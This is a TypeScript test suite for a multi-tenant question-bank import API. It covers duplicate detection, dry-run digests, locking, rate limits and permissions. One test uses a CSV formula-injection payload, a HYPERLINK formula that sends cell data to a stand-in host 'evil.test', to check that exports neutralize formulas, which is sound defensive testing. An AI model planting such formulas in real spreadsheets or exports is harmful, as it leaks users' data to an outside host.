import { isDeepStrictEqual } from "node:util";
import { beforeEach, describe, expect, it } from "vitest";
import { SAMPLE_USERS } from "../../../test-backend/sample-users.ts";
import seed from "../../../sample.json" with { type: "json" };
import { readFile } from "../../../../src/api/admin/formats/files/read-file.ts";
import { fillBank } from "../../../test-backend/bank.ts";
import { buildProfile } from "../../../builders/catalog.ts";
import { rowsOf, startBackend, type CallAs, type BodyParts } from "../../../test-backend/calls.ts";
import { Unavailable } from "../../ports/store.ts";
import {
  ADMIN,
  TENANT_PATH,
  BANK_CHANGED,
  draft,
  inMockA,
  checkImport,
} from "../../../test-backend/checked-import.ts";

const { inge: INGE, luis: LUIS, learner: LEARNER } = SAMPLE_USERS;
const CHECK = `${TENANT_PATH}/questions/import?createMissing=1&dryRun=1`;

/** Returns a body whose end has to be awaited. */
function slowBody(rows: readonly unknown[]) {
  const { promise: begun, resolve: begin } = Promise.withResolvers<void>();
  const { promise: ended, resolve: end } = Promise.withResolvers<void>();
  const parts: BodyParts = async function* () {
    begin();
    yield* rowsOf(rows)();
    await ended;
  };
  return { parts, begun, end };
}

describe("an import", () => {
  let backend = startBackend();
  let admin: CallAs;
  beforeEach(async () => {
    backend = startBackend();
    admin = await backend.as(ADMIN);
  });
  const counts = async () => ({
    categories: await backend.store.count("categories"),
    subcategories: await backend.store.count("subcategories"),
    questions: await backend.store.count("questions"),
  });

  it("adds nothing until it is stored, then all rows in the order of the file", async () => {
    const before = await counts();
    const rows = Array.from({ length: 1200 }, (_, index) =>
      draft(`Question ${index}`, { domain: `D${index % 3}` }),
    );
    const { verdicts, store } = await checkImport(admin, rows);
    expect(verdicts.filter(({ verdict }) => verdict === "new")).toHaveLength(1200);
    expect(await counts()).toEqual(before);
    expect((await store()).body).toEqual([
      { result: { created: 1200, changed: 0, skipped: 0, categories: 1, subcategories: 3 } },
    ]);
    expect(await counts()).toEqual({
      categories: before.categories + 1,
      subcategories: before.subcategories + 3,
      questions: before.questions + 1200,
    });
    const added = (await backend.store.list("questions")).slice(-1200);
    expect(added.map(({ text }) => text)).toEqual(rows.map(({ text }) => text));
    expect(added[0]).toMatchObject({
      version: 1,
      isRetired: false,
      options: [{ id: 1 }, { id: 2 }],
      changedAt: "2026-11-20T18:00:00.000Z",
    });
  });

  it("finds duplicates in the bank and among the rows, and reports the differences", async () => {
    const rows = Array.from({ length: 700 }, (_, index) => draft(`Question ${index}`));
    await (await checkImport(admin, rows)).store();
    const again = await checkImport(admin, [...rows, draft("new"), draft("NEW ", { correctAnswer: 2 })]);
    expect(
      again.verdicts.slice(0, 700).every((it) => it.verdict === "duplicate" && it.differs.length === 0),
    ).toBe(true);
    expect(again.verdicts.slice(700)).toEqual([
      { verdict: "new" },
      { verdict: "duplicate", of: { row: 700 }, differs: ["wording", "key"] },
    ]);
    expect((await again.store()).body).toEqual([
      { result: { created: 1, changed: 0, skipped: 701, categories: 0, subcategories: 0 } },
    ]);
  });

  it.each(["csv", "json"] as const)("of an export as %s changes nothing", async (format) => {
    const before = await counts();
    const { text, headers } = await admin("GET", `/api/admin/tenants/1/questions/export?format=${format}`);
    expect(headers["X-Total-Count"]).toBe(String(seed.questions.length));
    const { rows, problem } = await readFile(new TextEncoder().encode(text).buffer, {
      name: `a.${format}`,
      format: null,
      encoding: null,
      defaults: {},
    });
    expect([problem, rows.length]).toEqual([null, seed.questions.length]);
    const { verdicts, store } = await checkImport(
      admin,
      rows.map(({ draft }) => draft),
      {
        tenant: "/api/admin/tenants/1",
        createMissing: false,
      },
    );
    expect(verdicts).toEqual(
      seed.questions.map(({ id }) => ({ verdict: "duplicate", of: { questionId: id }, differs: [] })),
    );
    expect((await store()).body).toMatchObject([
      { result: { created: 0, changed: 0, skipped: rows.length } },
    ]);
    expect(await counts()).toEqual(before);
  });

  it("restores the texts with formulas that the export neutralized", async () => {
    const admin = await startBackend().as(ADMIN);
    const formula = '=HYPERLINK("http://evil.test/?"&A1)';
    const options = ["+1+1", "-2", "@SUM(A1)", "'=1"].map((text) => ({ text }));
    const formulas = draft(formula, { options, explanation: "\t=1 is one" });
    await (await checkImport(admin, [formulas])).store();
    const { text } = await admin("GET", `${TENANT_PATH}/questions/export?format=csv`);
    const line = text.split("\r\n").find((one) => one.includes("HYPERLINK")) ?? "";
    for (const cell of [`"'=HYPERLINK(""http://evil.test/?""&A1)"`, "'+1+1", "'-2", "'@SUM(A1)", "''=1"])
      expect(line).toContain(`,${cell},`);
    expect(line).not.toMatch(/(?:^|,)"?[=+@-]/);
    const { rows } = await readFile(new TextEncoder().encode(text).buffer, {
      name: "bank.csv",
      format: null,
      encoding: null,
      defaults: {},
    });
    expect(rows.find(({ draft: read }) => read?.text === formula)?.draft?.options).toMatchObject(options);
  });

  it("finds duplicates among all questions of a bank of more than 5,000", async () => {
    await (await checkImport(admin, [draft("Oldest")])).store();
    await fillBank(backend.store, 2, 5000);
    expect((await checkImport(admin, [draft("Oldest")])).verdicts).toMatchObject([{ verdict: "duplicate" }]);
  });

  it("into another tenant creates the same bank there", async () => {
    const from = await admin("GET", "/api/admin/tenants/1/questions/export?format=json");
    const { questions } = from.body as { questions: object[] };
    await (await checkImport(admin, questions)).store();
    const to = await admin("GET", `${TENANT_PATH}/questions/export?format=json`);
    const withoutIds = (list: object[]) => list.map((question) => ({ ...question, id: 0 }));
    expect(withoutIds((to.body as { questions: object[] }).questions)).toEqual(withoutIds(questions));
  });

  it("gives equal scenarios one id, and others separate ids", async () => {
    const scenario = { title: "Harbour", text: "Two sites." };
    const other = { title: "Harbour", text: "Three sites." };
    const { store } = await checkImport(admin, [
      draft("1", { scenario }),
      draft("2", { scenario }),
      draft("3", { scenario: other }),
    ]);
    await store();
    const [one, two, three] = (await backend.store.list("questions"))
      .slice(-3)
      .map((doc) => doc.scenario?.id);
    expect(one).toBe(two);
    expect(three).not.toBe(one);
  });

  it("creates each name once, ignoring case and whitespace", async () => {
    const { summary, store } = await checkImport(admin, [
      draft("1", { domain: "Alarms" }),
      draft("2", { certification: " fire  SAFETY", domain: "alarms " }),
    ]);
    expect(summary.missing).toEqual([
      { certification: "Fire Safety", rows: 2 },
      { certification: "Fire Safety", domain: "Alarms", rows: 2 },
    ]);
    expect((await store()).body).toMatchObject([{ result: { categories: 1, subcategories: 1 } }]);
  });

  it("creates at most a thousand names, because a column that differs in every row contains no domains", async () => {
    const rows = Array.from({ length: 1001 }, (_, index) => draft(`Q ${index}`, { domain: `D ${index}` }));
    const { verdicts } = await checkImport(admin, rows);
    expect(verdicts.filter(({ verdict }) => verdict === "new")).toHaveLength(999);
    const refused = {
      verdict: "failed",
      path: "domain",
      reason: "More than 1,000 certifications and domains would be created. Is this their column?",
    };
    expect(verdicts.slice(999)).toEqual([refused, refused]);
    const again = await checkImport(admin, [
      ...rows.slice(0, 999),
      draft("Another in D 5", { domain: "d  5" }),
    ]);
    expect(again.verdicts.at(-1)).toEqual({ verdict: "new" });
    expect((await again.store()).body).toEqual([
      { result: { created: 1000, changed: 0, skipped: 0, categories: 1, subcategories: 999 } },
    ]);
  });

  it("stores nothing if one row fails", async () => {
    const before = await counts();
    const { store } = await checkImport(admin, [draft("1"), draft("2", { correctAnswer: 9 }), draft("3")]);
    const { status, body } = await store();
    expect([status, body]).toEqual([422, "Rows that failed can't be imported. Nothing was stored."]);
    expect(await counts()).toEqual(before);
  });

  it("stores the other rows if failed rows are left out", async () => {
    const before = await counts();
    const rows = [draft("1"), draft("2", { correctAnswer: 9 }), null, draft("3"), draft("1")];
    const { store } = await checkImport(admin, rows);
    expect((await store("skipFailed=1&")).body).toEqual([
      { result: { created: 2, changed: 0, skipped: 1, categories: 1, subcategories: 0 } },
    ]);
    expect((await counts()).questions).toBe(before.questions + 2);
    // The digest stands for the verdicts, so nothing is stored twice.
    expect((await store("skipFailed=1&")).status).toBe(409);
  });

  it.each([
    [
      "added",
      [],
      async () => void (await (await checkImport(await backend.as(INGE), [draft("One")])).store()),
    ],
    [
      "restored",
      [draft("One")],
      async (id: number) => void (await admin("POST", `${TENANT_PATH}/questions/${id}/restore`)),
    ],
    [
      "changed to it",
      [draft("Other")],
      async (id: number) => void (await admin("PATCH", `${TENANT_PATH}/questions/${id}`, { text: "One" })),
    ],
  ])("is refused if a question was %s since the check", async (_, existing, change) => {
    await (await checkImport(admin, [draft("Zero"), ...existing])).store();
    const id = (await backend.store.list("questions")).at(-1)?.id ?? 0;
    if (existing.some(({ text }) => text === "One")) await admin("DELETE", `${TENANT_PATH}/questions/${id}`);
    const { verdicts, store } = await checkImport(admin, [draft("One"), draft("Two")]);
    expect(verdicts).toEqual([{ verdict: "new" }, { verdict: "new" }]);
    await change(id);
    const before = await counts();
    const { status, body } = await store();
    expect([status, body]).toEqual([409, BANK_CHANGED]);
    expect(await counts()).toEqual(before);
    const again = await checkImport(admin, [draft("One"), draft("Two")]);
    expect((await again.store()).body).toMatchObject([{ result: { created: 1, changed: 0, skipped: 1 } }]);
  });

  it("is refused if its domains were deleted since the check, and stores nothing", async () => {
    await (await checkImport(admin, [draft("1", { domain: "Alarms" })])).store();
    const { store } = await checkImport(admin, [draft("2", { domain: "Alarms" })], { createMissing: false });
    const domain = (await backend.store.list("subcategories")).at(-1)?.id;
    await admin("DELETE", `${TENANT_PATH}/subcategories/${domain}`);
    const before = await counts();
    const { status, body } = await store();
    expect([status, body]).toEqual([409, BANK_CHANGED]);
    expect(await counts()).toEqual(before);
  });

  it("is refused if createMissing differs from the check", async () => {
    await (await checkImport(admin, [draft("1")])).store();
    const before = await counts();
    const { summary } = await checkImport(admin, [draft("2")], { createMissing: false });
    const path = `${TENANT_PATH}/questions/import?createMissing=1&digest=${summary.digest}`;
    const { status, body } = await admin("POST", path, rowsOf([draft("2")]));
    expect([status, body]).toEqual([409, BANK_CHANGED]);
    expect(await counts()).toEqual(before);
  });

  it.each<[string, object[]]>([
    ["other rows of the same verdicts", [draft("One"), draft("Three")]],
    ["the same rows in another order", [draft("Two"), draft("One")]],
    [
      "another spelling of a name that it creates",
      [draft("One", { certification: "FIRE safety" }), draft("Two")],
    ],
  ])("is refused with %s than were checked", async (_, rows) => {
    const before = await counts();
    const { summary } = await checkImport(admin, [draft("One"), draft("Two")]);
    const path = `${TENANT_PATH}/questions/import?createMissing=1&digest=${summary.digest}`;
    const { status, body } = await admin("POST", path, rowsOf(rows));
    expect([status, body]).toEqual([409, BANK_CHANGED]);
    expect(await counts()).toEqual(before);
  });

  it("reports unknown certifications and domains if none are created", async () => {
    await (await checkImport(admin, [draft("1")])).store();
    const { verdicts } = await checkImport(
      admin,
      [draft("2", { certification: "Ice" }), draft("3", { domain: "Alarms" }), draft("4")],
      { createMissing: false },
    );
    expect(verdicts).toEqual([
      {
        verdict: "failed",
        path: "certification",
        reason: "“Ice” is not a certification of this organization",
      },
      { verdict: "failed", path: "domain", reason: "“Alarms” is not a domain of Fire Safety" },
      { verdict: "new" },
    ]);
  });

  it("reads lines that arrive in parts, and fails those that are too long or invalid by themselves", async () => {
    const lines = [draft("1"), draft("2"), draft("x".repeat(800_000)), draft("4")]
      .map((row) => JSON.stringify(row))
      .join("\r\n");
    const text = `\n${lines}\n{"text"\n${JSON.stringify(draft("\0"))}\n  \n${JSON.stringify(draft("7"))}`;
    const inParts = (size: number): BodyParts =>
      async function* () {
        for (let from = 0; from < text.length; from += size) yield text.slice(from, from + size);
      };
    for (const size of [997, 64_000, text.length]) {
      const { verdicts, summary } = await checkImport(admin, inParts(size));
      expect(verdicts.map(({ verdict }) => verdict)).toEqual([
        "new",
        "new",
        "failed",
        "new",
        "failed",
        "failed",
        "new",
      ]);
      expect(summary).toMatchObject({ rows: 7, fresh: 4, failed: 3 });
    }
  });

  it("is refused with neither or both of a dry run and a digest", async () => {
    for (const query of ["createMissing=1", "dryRun=1&digest=a"]) {
      const path = `${TENANT_PATH}/questions/import?${query}`;
      const { status, body } = await admin("POST", path, rowsOf([draft("1")]));
      expect([status, body]).toEqual([400, "Send either dryRun=1 or the digest of a check."]);
    }
  });

  it("is no longer in progress after it was refused", async () => {
    for (let count = 0; count < 3; count += 1)
      expect((await admin("POST", CHECK, rowsOf([]))).status).toBe(400);
    expect((await checkImport(admin, [draft("1")])).verdicts).toHaveLength(1);
  });

  it("is refused before its body is read unless an administrator of the organization sends it", async () => {
    let isRead = false;
    const parts: BodyParts = async function* () {
      isRead = true;
      yield "0\n";
    };
    const other = CHECK.replace("/2/", "/1/");
    expect((await backend.anonymous("POST", CHECK, parts)).status).toBe(401);
    expect((await (await backend.as(LEARNER))("POST", CHECK, parts)).status).toBe(403);
    expect((await (await backend.as(INGE))("POST", other, parts)).status).toBe(404);
    expect(isRead).toBe(false);
    expect((await (await backend.as(INGE))("POST", CHECK, parts)).status).toBe(200);
    expect(isRead).toBe(true);
  });

  it("locks nothing while its body arrives, and is checked against the bank at its end", async () => {
    const { parts, begun, end } = slowBody([draft("One")]);
    const pending = checkImport(admin, parts);
    await begun;
    await (await checkImport(await backend.as(INGE), [draft("One")])).store();
    expect((await admin("POST", `${TENANT_PATH}/categories`, { name: "Ice" })).status).toBe(201);
    end();
    expect((await pending).verdicts).toMatchObject([{ verdict: "duplicate" }]);
  });

  it("is refused while two others of the user are in progress", async () => {
    const slow = [slowBody([draft("1")]), slowBody([draft("2")])];
    const pending = slow.map(({ parts }) => checkImport(admin, parts));
    await Promise.all(slow.map(({ begun }) => begun));
    const { status, body, headers } = await admin("POST", CHECK, rowsOf([draft("3")]));
    expect([status, headers["Error-Code"], body]).toEqual([
      429,
      "too-many-jobs",
      "Two of your imports are in progress. Wait until one of them has ended.",
    ]);
    expect((await checkImport(await backend.as(INGE), [draft("3")])).verdicts).toHaveLength(1);
    for (const { end } of slow) end();
    await Promise.all(pending);
    expect((await checkImport(admin, [draft("3")])).verdicts).toHaveLength(1);
  });

  it("is refused while four others are in progress", async () => {
    const slow = ["1", "2", "3", "4"].map((text) => slowBody([draft(text)]));
    const callers = [admin, admin, await backend.as(INGE), await backend.as(INGE)];
    const pending = slow.map(({ parts }, index) => checkImport(callers[index] ?? admin, parts));
    await Promise.all(slow.map(({ begun }) => begun));
    await backend.store.tx((tx) => tx.update("users", LUIS, { isAdmin: true }));
    const other = await backend.as(LUIS);
    const { status, body, headers } = await other("POST", CHECK, rowsOf([draft("5")]));
    expect([status, body, headers["Retry-After"]]).toEqual([
      429,
      "Too many imports are in progress. Try again in a minute.",
      "60",
    ]);
    for (const { end } of slow) end();
    await Promise.all(pending);
    expect((await checkImport(other, [draft("5")])).verdicts).toHaveLength(1);
  });
});

it("finds all duplicates although a question is retired while the bank is read", async () => {
  let isRetiring = false;
  let retired: Promise<void> | undefined;
  const { as, store } = startBackend({
    wrapStore: (inner) => ({
      ...inner,
      async read(work, options) {
        const result = await inner.read(work, options);
        const isPortion = typeof result === "function";
        if (isPortion && isRetiring) await (retired ??= retireNewest());
        return result;
      },
    }),
  });
  const retireNewest = () =>
    store.tx(async (tx) => {
      const [newest] = await tx.list("questions", {}, { limit: 1 });
      if (newest) await tx.update("questions", newest.id, { isRetired: true });
    });
  const admin = await as(ADMIN);
  const rows = Array.from({ length: 401 }, (_, index) => draft(`Question ${index}`));
  await (await checkImport(admin, rows)).store();
  isRetiring = true;
  const { verdicts } = await checkImport(admin, [draft("Question 0"), draft("Question 1")]);
  expect(verdicts.map(({ verdict }) => verdict)).toEqual(["duplicate", "duplicate"]);
  expect(retired).toBeDefined();
});

it("reports an import that can't be written, stores nothing and allows a retry", async () => {
  let fails = false;
  const { as, store } = startBackend({
    wrapStore: (inner) => ({
      ...inner,
      tx: (work) =>
        inner.tx(async (tx) => {
          const result = await work(tx);
          if (fails && (await tx.count("questions")) > seed.questions.length)
            throw new Unavailable("The disk is full.");
          return result;
        }),
    }),
  });
  const admin = await as(ADMIN);
  const { store: storeRows } = await checkImport(admin, [draft("1")]);
  fails = true;
  expect((await storeRows()).status).toBe(503);
  expect(await store.count("questions")).toBe(seed.questions.length);
  fails = false;
  expect((await storeRows()).body).toMatchObject([{ result: { created: 1 } }]);
});

describe("before an import gets the lock of its tenant", () => {
  /** Starts a backend. `beforeLock` runs once, before the next import gets its lock. */
  function startInterrupted() {
    const interruption: { beforeLock?: () => Promise<unknown> } = {};
    const backend = startBackend({
      wrapStore: (inner) => ({
        ...inner,
        tx: async (work, options) => {
          const { beforeLock } = interruption;
          if (beforeLock && isDeepStrictEqual(options?.lock, { tenant: 2, part: "imports" })) {
            delete interruption.beforeLock;
            await beforeLock();
          }
          return inner.tx(work, options);
        },
      }),
    });
    return { ...backend, interruption };
  }

  it.each<[string, (as: CallAs, otherId: number) => Promise<void>]>([
    ["added", async (as) => void (await (await checkImport(as, [draft("One")])).store())],
    [
      "changed to it",
      async (as, id) => void (await as("PATCH", `${TENANT_PATH}/questions/${id}`, { text: "One" })),
    ],
  ])("a question that is %s makes it skip that row", async (_, change) => {
    const { as, store, interruption } = startInterrupted();
    const admin = await as(ADMIN);
    const inge = await as(INGE);
    await (await checkImport(admin, [draft("Zero"), draft("Other")])).store();
    const otherId = (await store.list("questions")).at(-1)?.id ?? 0;
    const { store: storeRows } = await checkImport(admin, [draft("One"), draft("Two")]);
    interruption.beforeLock = () => change(inge, otherId);
    expect((await storeRows()).body).toEqual([
      { result: { created: 1, changed: 0, skipped: 1, categories: 0, subcategories: 0 } },
    ]);
    const texts = (await store.list("questions")).map(({ text }) => text);
    expect(texts.filter((text) => text === "One")).toHaveLength(1);
  });

  it("another administrator's import of the same file stores each question once", async () => {
    const { as, store } = startBackend();
    const rows = Array.from({ length: 30 }, (_, index) => draft(`At once ${index}`, { domain: "Alarms" }));
    const checks = await Promise.all([checkImport(await as(ADMIN), rows), checkImport(await as(INGE), rows)]);
    expect(checks.map(({ summary }) => summary.fresh)).toEqual([30, 30]);
    const replies = await Promise.all(checks.map(({ store: storeRows }) => storeRows()));
    // The second gets 409 because the bank has changed, or skips the questions that the first has stored.
    expect(replies.map(({ status }) => status)).toContain(200);
    for (const { status } of replies) expect([200, 409]).toContain(status);
    const texts = (await store.list("questions")).map(({ text }) => text);
    expect(texts.filter((text) => text.startsWith("At once"))).toHaveLength(30);
    for (const name of ["Fire Safety", "Alarms"]) {
      const places = [...(await store.list("categories")), ...(await store.list("subcategories"))];
      expect(places.filter((place) => place.name === name)).toHaveLength(1);
    }
  });

  it("a mock exam that is filled makes it store nothing", async () => {
    const { as, store, interruption } = startInterrupted();
    const admin = await as(ADMIN);
    await (await checkImport(admin, [draft("Zero", { form: "A" })])).store();
    const { categoryId } = (await store.list("questions")).at(-1) ?? { categoryId: 0 };
    await store.update("categories", categoryId, { profile: buildProfile({ mocks: { questions: 2 } }) });
    const { verdicts, store: storeRows } = await checkImport(admin, [
      draft("One"),
      draft("Two", { form: "A" }),
    ]);
    expect(verdicts.map(({ verdict }) => verdict)).toEqual(["new", "new"]);
    const before = await store.count("questions");
    interruption.beforeLock = async () =>
      expect(await admin("POST", `${TENANT_PATH}/questions`, inMockA(categoryId))).toMatchObject({
        status: 201,
      });
    expect(await storeRows()).toMatchObject({ status: 409, body: BANK_CHANGED });
    expect(await store.count("questions")).toBe(before + 1);
  });

  it("an administrator who loses the role stores nothing", async () => {
    const { as, store, interruption } = startInterrupted();
    const { store: storeRows } = await checkImport(await as(INGE), [draft("One")]);
    const before = await store.count("questions");
    interruption.beforeLock = () => store.update("users", INGE, { isAdmin: false });
    expect((await storeRows()).status).toBe(403);
    expect(await store.count("questions")).toBe(before);
  });
});
